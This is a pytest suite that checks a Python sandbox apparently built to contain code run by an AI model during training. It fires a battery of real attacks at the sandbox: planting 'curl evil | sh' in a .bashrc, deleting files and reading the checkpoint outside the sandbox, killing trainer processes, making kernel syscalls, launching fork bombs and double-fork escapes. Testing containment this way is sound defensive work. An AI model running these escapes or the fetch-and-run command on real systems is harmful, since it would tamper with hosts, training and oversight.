"""What the python sandbox's containment stops, with real processes and real attacks: every attack is run in the
full containment (refused or contained) and, where the audit hook does not happen to block it, in the weak
"audit-hook" mode (where it succeeds), so each assertion fails if the layer doing the work is off. Also: the disk
and process budgets, the wall-time kill of processes that left the group, calls from several threads, the refusal
up front when a layer is missing, and the same attacks run by an ordinary (non-root) user."""
import concurrent.futures
import ctypes
import json
import os
import platform
import pwd
import re
import shutil
import signal
import site
import socket
import stat
import subprocess
import sys
import tempfile
import uuid
from types import SimpleNamespace

import pytest

from alignment.envs import SandboxLimits, ToolEnvironment, run_python
from alignment.envs.sandbox.runner import check_containment, refusal_message
from alignment.envs.sandbox.kernel import REQUIRED_LAYERS

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
ROOT = os.geteuid() == 0
NOBODY = 65534
# the battery reports the host's process and /tmp listings where the weak mode shows them: no 4000-character cut
FULL, WEAK = SandboxLimits(output_chars=1 << 20), SandboxLimits(containment="audit-hook", output_chars=1 << 20)
# the numbers this test tries, checked independently of the sandbox's own table
SYSCALLS = {"x86_64": {"ptrace": 101, "keyctl": 250, "io_uring_setup": 425, "bpf": 321, "perf_event_open": 298,
                       "unshare": 272, "mount": 165},
            "aarch64": {"ptrace": 117, "keyctl": 219, "io_uring_setup": 425, "bpf": 280, "perf_event_open": 241,
                        "unshare": 97, "mount": 40}}
PROBE_USER_NAMESPACE = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if os.geteuid() == 0:  # the sandbox becomes nobody first
    os.setgroups([]); os.setresgid(65534, 65534, 65534); os.setresuid(65534, 65534, 65534)
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE, so that /proc/self/uid_map is its own
assert libc.unshare(0x10000000 | 0x20000) == 0, "unshare"
uid = os.geteuid()
open("/proc/self/setgroups", "w").write("deny")
open("/proc/self/uid_map", "w").write(f"{uid} {uid} 1")
assert libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0, "mount in the user namespace"
"""


def kernel_lacks() -> str:
    """What this machine lacks for the full containment, found without the sandbox's code ("" if nothing)."""
    if platform.system() != "Linux" or platform.machine() not in SYSCALLS:
        return "Linux on x86_64 or aarch64"
    if tuple(int(part) for part in re.findall(r"\d+", platform.release())[:2]) < (5, 14):
        return "Linux >= 5.14"
    if ctypes.CDLL(None, use_errno=True).syscall(ctypes.c_long(444), None, ctypes.c_long(0), ctypes.c_long(1)) < 1:
        return "Landlock"
    probe = subprocess.run([sys.executable, "-I", "-c", PROBE_USER_NAMESPACE], capture_output=True, text=True)
    return "" if probe.returncode == 0 else f"unprivileged user namespaces ({probe.stderr.strip().splitlines()[-1]})"


def python_in_tmp() -> list:
    """The names in /tmp of this Python's installation (a virtual environment under /tmp): the sandbox's own /tmp
    keeps them, read-only, so that the code can import what the interpreter has."""
    dirs = (sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), *site.getsitepackages())
    return [os.path.relpath(d, "/tmp").split(os.sep)[0] for d in map(os.path.abspath, dirs) if d.startswith("/tmp/")]


def own_tmp(*names: str) -> list:
    """What the code lists in its /tmp: its work directory, its /dev/shm, `names` and the Python installation's."""
    return sorted({".shm", "work", *names, *python_in_tmp()})


LACKS = kernel_lacks()
pytestmark = pytest.mark.skipif(bool(LACKS), reason=f"this kernel cannot contain the sandbox: it lacks {LACKS}")

# Run inside the sandbox: each attack's outcome, "done" (or what it read) or the errno's name.
PRELUDE = r'''
import errno, json, os, signal, socket, sys
P = json.loads(sys.argv[0] and PARAMS)
out = {}

def attempt(name, action):
    try:
        value = action()
    except OSError as err:
        out[name] = errno.errorcode.get(err.errno) or f"{type(err).__name__}: {err}"
    else:
        out[name] = "done" if value is None else value

def read(path, mode="r"):
    with open(path, mode) as f:
        return f.read()

def write(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)

'''

SYSCALL_ATTACKS = r'''
try:
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
except PermissionError as err:  # the audit hook
    libc, refused = None, err

def syscall(number, *args):
    if libc is None:
        raise refused
    if libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) for a in args)) == -1:
        raise OSError(ctypes.get_errno(), "")

arguments = {"ptrace": (16, P["victims"][1], 0, 0), "keyctl": (0, -2, 1), "io_uring_setup": (1, 0),
             "bpf": (0, 0, 0), "perf_event_open": (0, 0, -1, -1, 0), "unshare": (0x10000000,), "mount": (0,) * 5}
for name, number in P["syscalls"].items():
    attempt(name, lambda: syscall(number, *arguments[name]))
'''

BATTERY = PRELUDE + r'''
D = P["dir"]
attempt("write_outside", lambda: write(D + "/planted.txt", "x"))
attempt("delete_file", lambda: os.remove(D + "/precious.txt"))
attempt("chmod_file", lambda: os.chmod(D + "/checkpoint.pdparams", 0o777))
attempt("write_bashrc", lambda: write(D + "/home/.bashrc", "curl evil | sh\n", "a"))
attempt("read_private", lambda: read(D + "/private.txt"))
attempt("read_checkpoint", lambda: read(D + "/checkpoint.pdparams"))
attempt("list_outside", lambda: sorted(os.listdir(D)))
attempt("symlink_read", lambda: os.symlink(D + "/checkpoint.pdparams", "link") or read("link"))
attempt("hardlink", lambda: os.link(D + "/checkpoint.pdparams", "hard"))
attempt("signal_trainer", lambda: os.kill(P["trainer"], 0))
attempt("kill_victim", lambda: os.kill(P["victims"][0], signal.SIGKILL))
attempt("stop_victim", lambda: os.kill(P["victims"][1], signal.SIGSTOP))
attempt("victim_environ", lambda: read(f"/proc/{P['victims'][1]}/environ", "rb").decode(errors="replace"))
attempt("victim_mem", lambda: open(f"/proc/{P['victims'][1]}/mem", "rb").close())
attempt("processes", lambda: sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
attempt("tmp_listing", lambda: sorted(os.listdir("/tmp")))
attempt("abstract_socket", lambda: socket.socket(socket.AF_UNIX).connect(P["abstract"]))
attempt("unix_socket", lambda: socket.socket(socket.AF_UNIX).connect(D + "/service.sock"))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).close())
attempt("setuid_root", lambda: os.setuid(0))
attempt("status", lambda: {k: v.strip() for k, v in (line.split(":", 1) for line in read("/proc/self/status")
                                                     .splitlines()) if k in ("CapEff", "NoNewPrivs", "Seccomp")})
''' + SYSCALL_ATTACKS + r'''
print(json.dumps(out))
'''


def battery(params: dict, code: str = BATTERY) -> str:
    return code.replace("sys.argv[0] and PARAMS", repr(json.dumps(params)))


def sandbox_processes(marker: str = "") -> list:
    """Live processes of this test's sandboxes (the child's settings name this process as parent) or carrying
    `marker` on their command line."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read().decode(errors="replace")
            with open(f"/proc/{pid}/stat") as f:
                state = f.read().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        ours = "sandbox/child.py" in cmdline and f'"parent": {os.getpid()}' in cmdline
        if state != "Z" and (ours or (marker and marker in cmdline)):
            found.append(int(pid))
    return found


def process_state(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0]
    except FileNotFoundError:
        return "gone"


class Stage:
    """Files of "the user" outside the sandbox (in /var/tmp, which the sandbox's own /tmp does not hide),
    processes standing for the trainer, and local services; owned by `uid` (nobody when the tests run as root, so
    that file permissions would allow every attack and only the containment refuses)."""

    def __init__(self, uid: int, gid: int):
        self.secret = uuid.uuid4().hex
        self.dir = tempfile.mkdtemp(prefix="alignment-sandbox-victim-", dir="/var/tmp")
        os.makedirs(f"{self.dir}/home")
        for name, text, mode in (("precious.txt", "precious", 0o666), ("private.txt", "private", 0o600),
                                 ("checkpoint.pdparams", "weights", 0o644), ("home/.bashrc", "# mine\n", 0o666)):
            with open(f"{self.dir}/{name}", "w") as f:
                f.write(text)
            os.chmod(f"{self.dir}/{name}", mode)
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind(f"\0alignment-test-{self.secret}")
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(f"{self.dir}/service.sock")
        for server in (self.abstract, self.unix):
            server.listen(1)
        os.chmod(f"{self.dir}/service.sock", 0o777)
        for path in (self.dir, f"{self.dir}/home"):
            os.chmod(path, 0o777)
        for root, dirs, files in os.walk(self.dir):
            for name in dirs + files:
                os.lchown(os.path.join(root, name), uid, gid)
        os.chown(self.dir, uid, gid)
        as_uid = {"user": uid, "group": gid, "extra_groups": []} if ROOT else {}
        self.victims = [subprocess.Popen(["sleep", "600"], env={"SECRET": self.secret}, **as_uid) for _ in range(2)]

    def params(self, trainer: int) -> dict:
        return {"dir": self.dir, "trainer": trainer, "victims": [v.pid for v in self.victims],
                "abstract": f"\0alignment-test-{self.secret}", "syscalls": SYSCALLS[platform.machine()]}

    def observe(self) -> dict:
        exists = lambda name: os.path.exists(f"{self.dir}/{name}")  # noqa: E731
        with open(f"{self.dir}/home/.bashrc") as f:
            bashrc = f.read()
        return {"planted": exists("planted.txt"), "precious": exists("precious.txt"), "bashrc": bashrc,
                "checkpoint_mode": stat.S_IMODE(os.stat(f"{self.dir}/checkpoint.pdparams").st_mode),
                "victims": [process_state(v.pid) for v in self.victims]}

    def close(self) -> None:
        for victim in self.victims:
            victim.kill()
            victim.wait()
        self.abstract.close()
        self.unix.close()
        shutil.rmtree(self.dir)


def attack(limits: SandboxLimits):
    stage = Stage(*((NOBODY, NOBODY) if ROOT else (os.getuid(), os.getgid())))
    try:
        result = run_python(battery(stage.params(os.getpid())), limits)
        assert result.returncode == 0, result.stderr
        return SimpleNamespace(out=json.loads(result.stdout), seen=stage.observe(), result=result,
                               trainer=os.getpid())
    finally:
        stage.close()


@pytest.fixture(scope="module")
def full():
    return attack(FULL)


@pytest.fixture(scope="module")
def weak():
    return attack(WEAK)


REFUSED_WRITE = ("EROFS", "EACCES")  # the read-only host mounts answer first, Landlock after them


def test_the_full_containment_applies_every_layer_on_this_machine(full, weak):
    assert set(REQUIRED_LAYERS) <= set(full.result.layers) and "audit-hook" not in full.result.layers
    assert check_containment(FULL) == full.result.layers
    assert weak.result.layers == ("audit-hook",)


def test_it_cannot_write_a_file_outside_its_work_directory(full, weak):
    assert full.out["write_outside"] in REFUSED_WRITE and not full.seen["planted"]
    assert weak.out["write_outside"] == "done" and weak.seen["planted"]


def test_it_cannot_delete_or_chmod_a_users_file(full, weak):
    assert full.out["delete_file"] in REFUSED_WRITE and full.seen["precious"]
    assert full.out["chmod_file"] == "EROFS" and full.seen["checkpoint_mode"] == 0o644  # Landlock lets chmod by
    assert weak.out["delete_file"] == "done" and not weak.seen["precious"]
    assert weak.out["chmod_file"] == "done" and weak.seen["checkpoint_mode"] == 0o777


def test_it_cannot_write_into_bashrc(full, weak):
    assert full.out["write_bashrc"] in REFUSED_WRITE and full.seen["bashrc"] == "# mine\n"
    assert weak.out["write_bashrc"] == "done" and "curl evil" in weak.seen["bashrc"]


def test_it_cannot_read_files_outside_not_even_those_permissions_allow(full, weak):
    """Landlock, not file permissions: the checkpoint is world-readable, the private file is the sandbox's own
    user's (nobody's when the trainer is root)."""
    for name in ("read_private", "read_checkpoint", "list_outside", "symlink_read"):
        assert full.out[name] == "EACCES", name
    assert full.out["hardlink"] in ("EXDEV", "EACCES", "EROFS")
    assert weak.out["read_checkpoint"] == weak.out["symlink_read"] == "weights"
    assert weak.out["read_private"] == "private" and "private.txt" in weak.out["list_outside"]


def test_it_cannot_signal_ptrace_or_inspect_the_trainer_or_other_processes(full, weak):
    for name in ("signal_trainer", "kill_victim", "stop_victim", "victim_environ", "victim_mem"):
        assert full.out[name] in ("ESRCH", "ENOENT"), name  # not in its PID namespace
    assert full.seen["victims"] == ["S", "S"]  # both still sleeping
    assert full.out["ptrace"] == "EPERM"  # seccomp answers before the PID is looked up (that would be ESRCH)
    assert weak.out["signal_trainer"] == weak.out["kill_victim"] == weak.out["stop_victim"] == "done"
    assert weak.seen["victims"][0] in ("Z", "gone") and weak.seen["victims"][1] == "T"
    assert f"SECRET={weak.out['victim_environ'].split('SECRET=')[1][:32]}" in weak.out["victim_environ"]


def test_it_sees_only_its_own_processes_and_tmp(full, weak):
    assert full.out["processes"] == [1, 2]  # its PID 1 (the namespace's reaper) and the code
    assert full.out["tmp_listing"] == own_tmp()
    assert full.trainer in weak.out["processes"] and len(weak.out["processes"]) > 10
    assert any(name.startswith("alignment-sandbox-") for name in weak.out["tmp_listing"])


def test_it_cannot_reach_local_services_by_unix_abstract_or_vsock_sockets(full, weak):
    for name in ("abstract_socket", "unix_socket", "vsock"):
        assert full.out[name] == "EPERM", name  # seccomp: no socket but the (unreachable) internet ones
    assert weak.out["abstract_socket"].startswith("PermissionError: sandbox: socket.__new__ is blocked")


def test_it_has_no_capabilities_and_cannot_gain_privileges(full, weak):
    assert full.out["status"] == {"CapEff": "0000000000000000", "NoNewPrivs": "1", "Seccomp": "2"}
    assert full.out["setuid_root"] in ("EINVAL", "EPERM")  # uid 0 does not exist in its user namespace
    assert weak.out["status"]["Seccomp"] == "0" and weak.out["status"]["NoNewPrivs"] == "0"


def test_seccomp_refuses_syscalls_that_work_outside_the_sandbox(full):
    tried = {name: SYSCALLS[platform.machine()][name] for name in ("keyctl", "io_uring_setup", "unshare")}
    outside = subprocess.run([sys.executable, "-I", "-c",
                              battery({"victims": [0, 0], "syscalls": tried}, PRELUDE + SYSCALL_ATTACKS
                                      + "print(json.dumps(out))")],
                             capture_output=True, text=True, timeout=60)
    assert json.loads(outside.stdout) == {"keyctl": "done", "io_uring_setup": "EFAULT", "unshare": "done"}
    for name in SYSCALLS[platform.machine()]:
        assert full.out[name] == "EPERM", name


def test_it_cannot_write_into_site_packages():
    target = os.path.join(site.getsitepackages()[0], f"zz_alignment_sandbox_{uuid.uuid4().hex}.pth")
    try:
        result = run_python(f"open({target!r}, 'w').write('import os')")
        assert result.returncode == 1 and re.search(r"(Read-only file system|Permission denied)", result.stderr)
        assert not os.path.exists(target)
    finally:
        if os.path.exists(target):
            os.remove(target)


def test_killing_its_parent_kills_nothing_outside():
    result = run_python("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n"
                        "os.kill(os.getppid(), signal.SIGKILL)\nprint(os.getppid())")
    assert (result.returncode, result.stdout) == (0, "1\n")  # its parent is its namespace's PID 1, unmoved


# --------------------------------------------------------------------------- budgets and the end of a call


WRITE_FILES = r'''
import errno, os
total, error = 0, None
try:
    for i in range({files}):
        fd = os.open(f"{{DIR}}/f{{i}}", os.O_WRONLY | os.O_CREAT)
        for _ in range({mib}):
            total += os.write(fd, b"x" * (1 << 20))
        os.close(fd)
except OSError as err:
    error = errno.errorcode[err.errno]
print(total, error)
'''


def test_writing_1_gib_in_64_files_of_16_mib_stops_at_the_disk_budget():
    result = run_python(WRITE_FILES.format(files=64, mib=16).replace("{DIR}", "."), SandboxLimits(wall_seconds=30))
    total, error = result.stdout.split()
    assert error == "ENOSPC" and 63 << 20 <= int(total) <= 64 << 20  # a little goes to the tmpfs's metadata


def test_the_disk_budget_is_shared_by_tmp_and_dev_shm_and_absent_in_the_weak_mode():
    code = (WRITE_FILES.format(files=1, mib=5).replace("{DIR}", "/tmp")
            + WRITE_FILES.format(files=1, mib=5).replace("{DIR}", "/dev/shm"))
    contained = run_python(code, SandboxLimits(disk_bytes=8 << 20)).stdout.split()
    assert contained == [str(5 << 20), "None"] + [contained[2], "ENOSPC"] and int(contained[2]) < 3 << 20
    weak = run_python(WRITE_FILES.format(files=4, mib=4).replace("{DIR}", "."),
                      SandboxLimits(disk_bytes=8 << 20, containment="audit-hook"))
    assert weak.stdout.split() == [str(16 << 20), "None"]


def test_the_process_cap_bounds_forks_and_threads():
    forks = ("import os, time\nn = 0\ntry:\n    while True:\n        if os.fork() == 0:\n            time.sleep(30)\n"
             "            os._exit(0)\n        n += 1\nexcept BlockingIOError:\n    pass\nprint(n)")
    threads = ("import threading, time\nn = 0\ntry:\n    while n < 100:\n"
               "        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n        n += 1\n"
               "except RuntimeError:\n    pass\nprint(n)")
    limits = SandboxLimits(max_processes=8)
    assert run_python(forks, limits).stdout == "7\n"  # the code's own process is the eighth
    assert run_python(threads, limits).stdout == "7\n"
    assert sandbox_processes() == []


def test_a_fork_bomb_is_capped_and_gone_when_the_call_returns():
    result = run_python("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
                        SandboxLimits(wall_seconds=2, max_processes=16))
    assert result.timed_out
    assert sandbox_processes() == []


ESCAPE = r'''
import os, subprocess, sys, time
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "MARKER-session"], start_new_session=True)
if os.fork() == 0:  # double fork into a new session
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "MARKER-double"])
    os._exit(0)
os.wait()
time.sleep(0.5)
print("started", flush=True)
'''


@pytest.mark.parametrize("hang", [False, True])
def test_processes_that_left_its_group_die_when_the_call_ends_or_times_out(hang):
    marker = f"escape-{uuid.uuid4().hex}"
    code = ESCAPE.replace("MARKER", marker) + ("time.sleep(300)\n" if hang else "")
    result = run_python(code, SandboxLimits(wall_seconds=3))
    assert result.stdout == "started\n" and result.timed_out == hang
    assert sandbox_processes(marker) == []


def test_calls_from_several_threads_are_isolated_from_each_other():
    code = ("import os, time\nopen('/tmp/mine-{i}', 'w').write('{i}')\ntime.sleep(0.3)\n"
            "print(sorted(os.listdir('/tmp')), open('/tmp/mine-{i}').read())")
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        results = list(pool.map(lambda i: run_python(code.format(i=i)), range(8)))
    for i, result in enumerate(results):
        assert result.stdout == f"{own_tmp(f'mine-{i}')} {i}\n", result.stderr
        assert set(REQUIRED_LAYERS) <= set(result.layers)
    assert sandbox_processes() == []


# --------------------------------------------------------------------------- the key and the refusal up front


NO_NAMESPACES = r'''
import json, sys, warnings
sys.path.insert(0, REPO)
from alignment.envs import ToolEnvironment, run_python, SandboxLimits
from alignment.envs.sandbox import kernel as sandbox_kernel
sandbox_kernel.seccomp()  # as a container's seccomp profile does: no unshare, no mount
out = {}
try:
    ToolEnvironment(tools=["calculator", "python"])
except ValueError as err:
    out["refused"] = str(err)
with warnings.catch_warnings(record=True) as caught:
    warnings.simplefilter("always")
    ToolEnvironment(tools=["python"], python_sandbox={"containment": "best-effort"})
out["warnings"] = [str(w.message) for w in caught]
result = run_python("open(" + repr(OUTSIDE) + ").read()", SandboxLimits(containment="best-effort"))
out["layers"], out["stderr"] = result.layers, result.stderr.strip().splitlines()[-1]
print(json.dumps(out))
'''


def test_a_machine_without_user_namespaces_refuses_the_python_tool_up_front_unless_told_otherwise():
    with tempfile.NamedTemporaryFile("w", dir="/var/tmp", suffix=".txt") as outside:
        outside.write("readable by permissions")
        outside.flush()
        os.chmod(outside.name, 0o644)
        code = NO_NAMESPACES.replace("REPO", repr(REPO)).replace("OUTSIDE", repr(outside.name))
        run = subprocess.run([sys.executable, "-I", "-c", code], capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    out = json.loads(run.stdout)
    assert "\n" not in out["refused"]
    assert out["refused"].startswith("environment 'tools': python sandbox: cannot contain the python tool here "
                                     "(namespaces: [Errno 1] unshare: Operation not permitted; nproc: ")
    assert "its seccomp profile must allow unshare" in out["refused"]
    assert '{"python_sandbox": {"containment": "best-effort"}}' in out["refused"]
    assert out["warnings"] == ["python sandbox: containment 'best-effort' runs without namespaces, read-only, "
                               "tmpfs, nproc (docs/agentic/sandbox.md)"]
    assert out["layers"][-1] == "audit-hook" and "landlock" in out["layers"] and "seccomp" in out["layers"]
    assert out["stderr"].startswith("PermissionError: [Errno 13] Permission denied")  # Landlock still applies


def test_the_refusal_names_what_the_kernel_lacks():
    landlock = refusal_message({"landlock": "[Errno 38] landlock: Function not implemented"})
    assert "landlock: [Errno 38]" in landlock and "Linux >= 5.13 built with CONFIG_SECURITY_LANDLOCK" in landlock
    assert "lsm= boot parameter" in refusal_message({"landlock": "[Errno 95] landlock: Operation not supported"})


def test_the_key_is_python_sandbox_in_environment_args():
    env = ToolEnvironment(tools=["python"], python_sandbox={"wall_seconds": 2, "containment": "full"})
    assert env.tools["python"].fn.limits == SandboxLimits(wall_seconds=2) and env.tools["python"].timeout == 7
    with pytest.raises(ValueError, match=r"^environment 'tools': python_sandbox: unknown key 'walltime' "
                                         r"\(known: wall_seconds, "):
        ToolEnvironment(tools=["python"], python_sandbox={"walltime": 2})
    with pytest.raises(ValueError, match="python_sandbox is set but 'python' is not among the tools"):
        ToolEnvironment(tools=["calculator"], python_sandbox={"wall_seconds": 2})
    with pytest.raises(ValueError, match="containment must be one of full, best-effort, audit-hook"):
        ToolEnvironment(tools=["python"], python_sandbox={"containment": "none"})


# --------------------------------------------------------------------------- an ordinary user


AS_USER = r'''
import json, sys
sys.path.insert(0, REPO)
from alignment.envs import run_python, SandboxLimits
jobs = json.loads(sys.argv[1])
out = []
for mode, code in jobs:
    result = run_python(code.replace("TRAINER_PID", str(__import__("os").getpid())), SandboxLimits(containment=mode,
                        max_processes=8, output_chars=1 << 20))
    out.append([result.stdout, result.stderr, result.layers])
print(json.dumps(out))
'''


@pytest.fixture(scope="module")
def ordinary_user():
    if not ROOT:
        pytest.skip("creating a throwaway user needs root (the tests above already run as an ordinary user)")
    if not all(shutil.which(tool) for tool in ("useradd", "userdel", "unshare", "setpriv", "mount")):
        pytest.skip("useradd, userdel, unshare, setpriv and mount (util-linux) are needed")
    name = f"alsbx{uuid.uuid4().hex[:8]}"
    subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name], check=True)
    try:
        yield pwd.getpwnam(name)
    finally:
        subprocess.run(["userdel", name], check=False)


def as_user(user, jobs) -> list:
    """Run AS_USER as `user` with this Python, which may live where others may not enter (pyenv's /root): in a
    mount namespace of its own, that directory is replaced by a tmpfs holding only the installation."""
    prefix = os.path.realpath(sys.base_prefix)
    parts = prefix.split(os.sep)[1:]
    top = next((os.sep + os.sep.join(parts[:i]) for i in range(1, len(parts))
                if not os.stat(os.sep + os.sep.join(parts[:i])).st_mode & stat.S_IXOTH), None)
    side = tempfile.mkdtemp(dir="/var/tmp")
    expose = "" if top is None else (f"mount --rbind {prefix} {side} && mount -t tmpfs -o mode=0755 tmpfs {top} && "
                                     f"mkdir -p {prefix} && mount --move {side} {prefix} && ")
    script = (f"{expose}exec setpriv --reuid={user.pw_uid} --regid={user.pw_gid} --clear-groups env -i "
              f"PATH=/usr/bin:/bin LANG=C.UTF-8 \"$0\" -I -c \"$1\" \"$2\"")
    try:
        run = subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-c", script, sys.executable,
                              AS_USER.replace("REPO", repr(REPO)), json.dumps(jobs)],
                             capture_output=True, text=True, timeout=180)
    finally:
        os.rmdir(side)
    assert run.returncode == 0, run.stderr
    return json.loads(run.stdout)


def test_an_ordinary_user_gets_the_same_containment(ordinary_user):
    """The path most users take: no root, the user's own files (0600 ones included) readable by permissions."""
    stages = [Stage(ordinary_user.pw_uid, ordinary_user.pw_gid) for _ in range(2)]
    try:
        jobs = [[mode, battery({**stage.params(0), "trainer": "TRAINER_PID"}).replace('"TRAINER_PID"', "TRAINER_PID")]
                for mode, stage in zip(("full", "audit-hook"), stages)]
        forks = ("import os, time\nn = 0\ntry:\n    while True:\n        if os.fork() == 0:\n            time.sleep(30)"
                 "\n            os._exit(0)\n        n += 1\nexcept BlockingIOError:\n    pass\nprint(n)")
        (full_out, _, layers), (weak_out, _, _), (forked, _, _) = as_user(ordinary_user, jobs + [["full", forks]])
        seen = [stage.observe() for stage in stages]
    finally:
        for stage in stages:
            stage.close()
    full, weak = json.loads(full_out), json.loads(weak_out)
    assert set(REQUIRED_LAYERS) <= set(layers)
    assert (full["read_private"], weak["read_private"]) == ("EACCES", "private")
    assert full["write_outside"] in REFUSED_WRITE and not seen[0]["planted"] and seen[1]["planted"]
    assert full["delete_file"] in REFUSED_WRITE and seen[0]["precious"] and not seen[1]["precious"]
    assert full["kill_victim"] == full["signal_trainer"] == "ESRCH" and seen[0]["victims"] == ["S", "S"]
    assert weak["kill_victim"] == weak["signal_trainer"] == "done" and seen[1]["victims"][0] in ("Z", "gone")
    assert full["processes"] == [1, 2] and full["ptrace"] == full["keyctl"] == "EPERM"
    assert forked == "7\n"  # RLIMIT_NPROC, counted in the sandbox's own user namespace
